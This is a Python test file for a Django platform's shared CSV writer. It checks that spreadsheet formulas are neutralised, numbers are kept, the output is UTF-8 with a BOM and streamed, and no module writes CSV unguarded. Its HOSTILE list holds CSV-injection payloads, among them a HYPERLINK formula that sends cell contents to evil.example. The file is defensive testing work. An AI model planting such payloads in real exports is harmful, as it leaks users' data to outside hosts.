"""The shared CSV writer: formulas neutralised, numbers kept, UTF-8 with BOM, streamed; and no
module of the platform writes CSV without it."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils import translation
from django.utils.translation import gettext_lazy

from endavant.core.csv import csv_streaming_response, safe_cell, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]
PACKAGE = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("cell", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(cell):
    """Each formula-looking text is written as text: apostrophe first, the rest unchanged."""
    assert safe_cell(cell) == "'" + cell


def test_numbers_stay_numbers_and_harmless_text_is_unchanged():
    """-2, -0.5 and Decimal('-1.25') stay numbers; "-3" given as text is neutralised."""
    assert safe_cell(-2) == -2
    assert safe_cell(-0.5) == -0.5
    assert safe_cell(Decimal("-1.25")) == Decimal("-1.25")
    assert safe_cell("-3") == "'-3"
    assert safe_cell(None) == ""
    assert safe_cell("Perpignan (66136)") == "Perpignan (66136)"
    assert safe_cell("a=b, c-d") == "a=b, c-d"
    assert safe_cell(gettext_lazy("=lazy")) == "'=lazy"


def test_write_csv_neutralises_header_and_rows():
    """The file read back holds every hostile cell as text and the numbers as written."""
    buffer = io.StringIO()
    write_csv(buffer, ["=header", "n"], [[cell, -2] for cell in HOSTILE], delimiter=";")
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline=""), delimiter=";"))
    assert rows[0] == ["'=header", "n"]
    assert [row[0] for row in rows[1:]] == ["'" + cell for cell in HOSTILE]
    assert {row[1] for row in rows[1:]} == {"-2"}


def test_streaming_response_is_an_attachment_in_utf8_with_bom():
    """Streamed, attachment, BOM first, CRLF lines, accents intact, formulas neutralised."""
    response = csv_streaming_response(
        "élus.csv", ["nom", "écart"], iter([["Élne", -3], ["=1+1", 2]])
    )
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%C3%A9lus.csv"
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())
    assert body.decode("utf-8-sig") == "nom,écart\r\nÉlne,-3\r\n'=1+1,2\r\n"


def test_streaming_response_keeps_the_language_of_the_view():
    """Labels translated while streaming use the language active when the view answered."""
    with translation.override("fr"):
        response = csv_streaming_response("x.csv", ["h"], ([gettext_lazy("Language")] for _ in "a"))
    with translation.override("en"):
        body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert body == "h\r\nLangue\r\n"


def _csv_writers(tree: ast.AST) -> list[int]:
    """Lines where ``tree`` uses the csv module's writer or DictWriter."""
    aliases = set()
    lines = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            aliases |= {alias.asname or alias.name for alias in node.names if alias.name == "csv"}
        elif (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and any(alias.name in {"writer", "DictWriter"} for alias in node.names)
        ):
            lines.append(node.lineno)
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in {"writer", "DictWriter"}
            and isinstance(node.value, ast.Name)
            and node.value.id in aliases
        ):
            lines.append(node.lineno)
    return sorted(lines)


#: Modules that may write CSV themselves, and why.
ALLOWED_WRITERS = {
    "endavant/core/csv.py": "the shared writer itself",
    # Plain Python without Django (it cannot import core), writing the Pabulib research format
    # byte for byte: neutralising formulas there would change the data other tools read.
    "endavant/voting/pabulib.py": "the Pabulib .pb format of the voting library",
}


def test_no_module_writes_csv_without_the_shared_writer():
    """Outside core/csv.py (and tests, migrations), nothing uses csv.writer or csv.DictWriter:
    every download goes through endavant.core.csv, which neutralises formulas. Readers
    (csv.reader, csv.DictReader) are fine."""
    offenders = []
    for path in sorted(PACKAGE.rglob("*.py")):
        relative = path.relative_to(PACKAGE.parent).as_posix()
        inner = set(path.relative_to(PACKAGE).parts)
        if relative in ALLOWED_WRITERS or {"tests", "migrations"} & inner:
            continue
        for line in _csv_writers(ast.parse(path.read_text(encoding="utf-8"))):
            offenders.append(f"{relative}:{line}")
    assert not offenders, (
        "Write CSV with endavant.core.csv (csv_streaming_response / write_csv): "
        + ", ".join(offenders)
    )


def test_the_scan_finds_every_way_to_reach_the_writer():
    """The scan itself: import csv, import csv as x, from csv import writer/DictWriter."""
    source = (
        "import csv\nimport csv as c\nfrom csv import DictWriter\n"
        "csv.writer(f)\nc.DictWriter(f, [])\ncsv.reader(f)\n"
    )
    assert _csv_writers(ast.parse(source)) == [3, 4, 5]
